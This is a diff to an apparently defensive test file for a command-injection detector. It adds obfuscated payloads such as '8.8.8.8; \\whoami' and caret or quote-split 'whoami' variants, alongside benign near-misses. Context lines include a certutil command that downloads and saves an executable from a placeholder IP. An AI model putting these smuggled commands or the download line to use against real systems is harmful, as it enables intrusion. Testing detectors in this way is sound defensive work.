@@ -87,6 +87,10 @@ const COMMANDS: readonly string[] = [
   'tar cf x --checkpoint-action=exec=sh',
   'cmd,/c,whoami',
   'who^ami',
+  '8.8.8.8; \\whoami',
+  '8.8.8.8|\\id',
+  "8.8.8.8; who$''ami",
+  '8.8.8.8; who$""ami',
   'certutil -urlcache -split -f http://203.0.113.4/a a.exe',
   'wmic process call create calc',
   '& set /a 268409241 - 2',
@@ -96,6 +100,10 @@ const COMMANDS: readonly string[] = [
 ];
 const NO_COMMANDS: readonly string[] = [
   'env',
+  'foo|\\w+|\\bid\\b',
+  'one;\\ntwo',
+  "it's $'' here",
+  'C:\\\\id;\\\\server\\share',
   'what time is it',
   'python -c vs python -m difference',
   'how to use bash -c',
